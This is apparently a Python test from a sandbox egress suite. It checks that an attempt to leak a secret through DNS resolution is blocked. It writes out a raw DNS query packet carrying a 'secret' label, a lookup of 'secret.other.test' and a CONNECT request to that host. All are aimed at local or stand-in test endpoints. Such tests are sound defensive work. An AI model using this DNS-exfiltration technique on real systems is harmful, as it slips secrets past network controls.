"""Attack: carry a secret out in a name that somebody resolves."""

from __future__ import annotations

import asyncio
import contextlib
import socket

QUESTION = "abcd01000001000000000000" + b"\x06secret\x04test\x00".hex() + "00010001"
ASK = """
import socket, sys
server = ("127.0.0.1", int(sys.argv[1]))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(bytes.fromhex(sys.argv[2]), server)
try:
    socket.getaddrinfo("secret.other.test", 80)
except OSError as error:
    print(type(error).__name__)
"""


async def test_no_name_is_asked_for(networked, unprotected, python, raw, names, decisions):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(2)
        port = server.getsockname()[1]
        await asyncio.to_thread(unprotected, python(ASK, port, QUESTION, inside=False))
        assert b"secret" in server.recv(100)
        sandbox = await networked(hosts=["site.test", "*.wild.test"])
        run = await sandbox.exec(python(ASK, port, QUESTION, inside=True))
        assert "gaierror" in run.text, run
        server.settimeout(0.3)
        got = b""
        with contextlib.suppress(TimeoutError):
            got = server.recv(100)
    assert got == b""
    # Nor does the proxy ask for a name that is not listed.
    await raw(sandbox, "CONNECT secret.other.test:443 HTTP/1.1\r\nHost: secret.other.test\r\n\r\n")
    assert names.asked == []
    assert await decisions(sandbox) == [("refused", "not listed")]
